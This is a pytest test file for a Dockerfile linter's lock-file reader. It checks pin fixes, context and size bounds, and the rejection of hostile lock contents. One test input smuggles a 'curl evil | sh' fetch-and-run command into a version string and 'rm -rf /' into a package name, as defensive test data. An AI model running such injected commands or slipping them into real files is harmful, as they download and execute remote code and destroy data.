"""Lock files feed the pin fixes: read only inside the build context, within bounds, and
never trusted further than their plain names and versions."""

from __future__ import annotations

import os
from pathlib import Path

import pytest
from helpers import run_dlint

from dlint import locks
from dlint.locks import parse_lock, read_locks

DOCKERFILE = (
    "FROM python:3.11-slim\nCOPY requirements.txt .\n"
    "RUN pip install --no-cache-dir -r requirements.txt\n"
)
UV_LOCK = (
    'version = 1\n[[package]]\nname = "Flask"\nversion = "3.0.3"\n'
    'source = { registry = "https://pypi.org/simple" }\n'
)


def test_fix_pins_the_requirements_file_from_uv_lock(tmp_path: Path) -> None:
    """``--fix --unsafe-fixes`` writes the lock's version into requirements.txt; ``--fix``
    alone does not (the pin is unsafe), and says one more is fixable."""
    (tmp_path / "Dockerfile").write_text(DOCKERFILE)
    (tmp_path / "requirements.txt").write_text("flask\n")
    (tmp_path / "uv.lock").write_text(UV_LOCK)
    safe = run_dlint(
        "check", "--isolated", "--fix", "--select", "requirements-unpinned", ".", cwd=tmp_path
    )
    assert (tmp_path / "requirements.txt").read_text() == "flask\n"
    assert "1 fixable with `--fix --unsafe-fixes`" in safe.stdout.decode()
    run_dlint(
        "check",
        "--isolated",
        "--fix",
        "--unsafe-fixes",
        "--select",
        "requirements-unpinned",
        ".",
        cwd=tmp_path,
    )
    assert (tmp_path / "requirements.txt").read_text() == "flask==3.0.3\n"


def test_a_lock_outside_the_context_is_never_read(tmp_path: Path) -> None:
    """A ``uv.lock`` symlinked to a file outside the context is not followed."""
    outside = tmp_path / "outside.lock"
    outside.write_text(UV_LOCK)
    context = tmp_path / "context"
    context.mkdir()
    (context / "uv.lock").symlink_to(outside)
    assert read_locks(str(context)) == ()
    (context / "uv.lock").unlink()
    (context / "uv.lock").write_text(UV_LOCK)
    assert [dict(lock.pins) for lock in read_locks(str(context))] == [{"flask": "3.0.3"}]


def test_a_lock_over_the_size_bound_or_not_a_file_is_skipped(tmp_path: Path, monkeypatch) -> None:
    """A lock larger than MAX_BYTES is not read; a FIFO named poetry.lock is never opened."""
    (tmp_path / "uv.lock").write_text(UV_LOCK)
    os.mkfifo(tmp_path / "poetry.lock")
    monkeypatch.setattr(locks, "MAX_BYTES", len(UV_LOCK) - 1)
    assert read_locks(str(tmp_path)) == ()
    monkeypatch.setattr(locks, "MAX_BYTES", len(UV_LOCK))
    assert [lock.kind for lock in read_locks(str(tmp_path))] == ["uv"]


@pytest.mark.parametrize(
    "text",
    [
        b"\xff\xfe not utf-8",
        "x = " + "[" * 100_000 + "]" * 100_000,
        '[[package]]\nname = "flask"\nversion = "3.0.3\\n&& curl evil | sh"\n'
        'source = { registry = "r" }\n',
        '[[package]]\nname = "flask; rm -rf /"\nversion = "3.0.3"\nsource = { registry = "r" }\n',
        "package = 3\n",
        "[[package]]\nname = 1\nversion = []\n",
    ],
)
def test_hostile_locks_give_no_pins(tmp_path: Path, text: str | bytes) -> None:
    """Deep nesting, bad encodings, and names or versions that are not plain give nothing."""
    path = tmp_path / "uv.lock"
    if isinstance(text, bytes):
        path.write_bytes(text)
    else:
        path.write_text(text)
    assert read_locks(str(tmp_path)) == ()


def test_poetry_lock_keeps_index_packages_only() -> None:
    """A legacy (private index) source is an index; git, directory, file and url are not."""
    text = "".join(
        f'[[package]]\nname = "p{kind}"\nversion = "1.0"\n[package.source]\ntype = "{kind}"\n'
        'url = "u"\n'
        for kind in ("legacy", "git", "directory", "file", "url")
    )
    assert parse_lock(text, "poetry") == {"plegacy": "1.0"}
